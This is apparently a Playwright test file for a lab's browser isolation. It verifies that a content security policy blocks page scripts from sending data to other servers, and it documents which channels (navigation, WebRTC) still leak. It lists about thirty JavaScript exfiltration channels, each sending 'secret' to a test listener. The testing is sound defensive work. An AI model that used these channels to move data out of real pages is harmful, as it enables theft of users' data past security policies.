"""A room's script cannot send data to somebody else's server, except by leading the browser there."""

from __future__ import annotations

import pytest
from playwright.sync_api import BrowserContext, Page

from tests.browser.conftest import AlicesSession
from tests.browser.listener import Listener
from tests.browser.site import Site

# Each sends the word "secret" with its own name to the address `to`.
WAYS = {
    "fetch": "fetch(to, {mode: 'no-cors'}).catch(() => 0)",
    "post": "fetch(to, {method: 'POST', body: 'secret', mode: 'no-cors', keepalive: true}).catch(() => 0)",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', to); x.send()",
    "beacon": "navigator.sendBeacon(to, 'secret')",
    "events": "new EventSource(to)",
    "websocket": "new WebSocket(to.replace('http', 'ws'))",
    "image": "new Image().src = to",
    "script": "add('script', {src: to})",
    "module": "add('script', {src: to, type: 'module'})",
    "style": "add('link', {rel: 'stylesheet', href: to})",
    "import": "add('style', {textContent: `@import url(${to});`})",
    "background": "document.body.style.backgroundImage = `url(${to})`",
    "font": "new FontFace('f', `url(${to})`).load().catch(() => 0)",
    "audio": "add('audio', {src: to, autoplay: true})",
    "track": "add('video', {poster: to})",
    "object": "add('object', {data: to})",
    "embed": "add('embed', {src: to})",
    "frame": "add('iframe', {src: to})",
    "srcdoc": "add('iframe', {srcdoc: `<img src='${to}'>`})",
    "blob": "add('iframe', {src: URL.createObjectURL(new Blob([`<img src='${to}'>`], {type: 'text/html'}))})",
    "prefetch": "add('link', {rel: 'prefetch', href: to})",
    "preload": "add('link', {rel: 'preload', as: 'image', href: to})",
    "modulepreload": "add('link', {rel: 'modulepreload', href: to})",
    "manifest": "add('link', {rel: 'manifest', href: to})",
    "icon": "add('link', {rel: 'icon', href: to})",
    "speculation": """add('script', {type: 'speculationrules', textContent:
        JSON.stringify({prefetch: [{source: 'list', urls: [to], requires: ['anonymous-client-ip-when-cross-origin']}],
                        prerender: [{source: 'list', urls: [to]}]})})""",
    "form": "const f = add('form', {method: 'POST', action: to, target: '_blank'}); f.submit()",
    "form here": "add('iframe', {name: 'here'}); const f = add('form', {action: to, target: 'here'}); f.submit()",
    "ping": "const a = add('a', {href: '#', ping: to}); a.click()",
    "worker": """new Worker(URL.createObjectURL(new Blob([`fetch('${to}', {mode: 'no-cors'})`])))""",
    "worker script": "new Worker(URL.createObjectURL(new Blob([`importScripts('${to}')`])))",
    "svg": "add('div', {innerHTML: `<svg><image href='${to}'/><use href='${to}#x'/></svg>`})",
}
WEBRTC = """const peer = new RTCPeerConnection({iceServers: [{urls: `stun:${new URL(to).host}`}]});
    peer.createDataChannel('x'); peer.createOffer().then(offer => peer.setLocalDescription(offer))"""
RUN = """([source, to]) => { const add = (kind, what) => {
    const made = Object.assign(document.createElement(kind), what); document.body.append(made); return made };
    try { new Function('add', 'to', source)(add, to) } catch (error) { return String(error) } return 'tried' }"""


def send(page: Page, listener: Listener, ways: dict[str, str]) -> None:
    for name, source in ways.items():
        page.evaluate(RUN, [source, f"{listener.origin}/{name.replace(' ', '-')}?secret"])
    page.wait_for_timeout(2500)


@pytest.mark.parametrize("victim", ["policy"], indirect=True)
def test_nothing_that_a_page_loads_or_sends_reaches_another_server(attack: Page, listener: Listener) -> None:
    send(attack, listener, WAYS)
    assert listener.requests == []


@pytest.mark.parametrize("victim", ["no policy"], indirect=True)
def test_without_the_policy_the_same_ways_would_all_arrive(attack: Page, listener: Listener) -> None:
    """So the listener hears, and each way is one."""
    send(attack, listener, WAYS)
    heard = {request.split()[1].split("?")[0].strip("/") for request in listener.requests if " " in request}
    missing = {name.replace(" ", "-") for name in WAYS} - heard
    # Chromium fetches these only in a window that is seen, or for a page of the same site.
    assert missing <= {"speculation", "manifest", "icon", "track"}, missing


@pytest.mark.parametrize("victim", ["policy"], indirect=True)
def test_leading_the_whole_browser_away_is_not_prevented(attack: Page, listener: Listener) -> None:
    """A person sees it happen, and what fits into an address has left. The design says so of the lab door."""
    attack.evaluate("to => { location.href = to }", listener.origin + "/left?secret")
    assert listener.wait_for("/left?secret")


@pytest.mark.parametrize("victim", ["policy"], indirect=True)
def test_webrtc_is_not_prevented(attack: Page, listener: Listener) -> None:
    """Not prevented by the lab door: a page may send datagrams to an address of its choice, unseen.

    Chromium knows no policy of a page against it (``webrtc 'block'`` is not recognised). It is one reason why
    the lab door is for synthetic and low-tier data; where browsers are managed, their administrators can
    switch it off. When this test fails, a browser has learnt to refuse, and the documents can say so.
    """
    send(attack, listener, {"webrtc": WEBRTC})
    assert listener.datagrams > 0
    assert listener.requests == []


@pytest.mark.parametrize("victim", ["policy"], indirect=True)
def test_the_page_that_it_leads_to_learns_neither_address_nor_window(
    attack: Page, victim: BrowserContext, listener: Listener
) -> None:
    with victim.expect_page() as opening:
        attack.evaluate("to => void window.open(to)", listener.origin + "/left")
    opening.value.wait_for_load_state()
    assert opening.value.evaluate("document.referrer") == ""
    assert opening.value.evaluate("window.opener") is None


def test_no_site_elsewhere_can_load_a_seat(site: Site, alices: AlicesSession) -> None:
    """The other way round: a page of another site, in alice's browser."""
    context = alices.context()
    page = context.new_page()
    with Listener() as elsewhere:
        page.goto(elsewhere.origin)
        for address in (site.seat("two") + "api/contents", site.public_url + "/hub/home", site.desk):
            read = page.evaluate(
                """async url => { try { return await (await fetch(url, {credentials: 'include'})).text() }
                    catch { return '' } }""",
                address,
            )
            assert read == ""
            opened = page.evaluate(
                """async url => { const w = window.open(url);
                    for (let i = 0; i < 50 && w && !w.closed; i++) await new Promise(d => setTimeout(d, 100));
                    return w ? w.closed : true }""",
                address,
            )
            assert opened is True
    context.close()
